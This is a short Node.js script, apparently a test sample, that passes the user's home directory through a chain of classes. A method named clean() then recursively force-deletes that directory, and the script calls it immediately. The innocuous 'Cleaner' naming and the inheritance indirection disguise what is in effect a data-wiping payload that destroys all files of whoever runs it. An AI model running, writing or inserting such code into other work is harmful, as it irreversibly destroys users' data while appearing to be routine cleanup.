const fsp = require('fs/promises');
const os = require('os');

class Base {
  root = os.homedir();
}

class Middle extends Base {}

class Cleaner extends Middle {
  async clean() {
    await fsp.rm(this.root, { recursive: true, force: true });
  }
}

new Cleaner().clean();
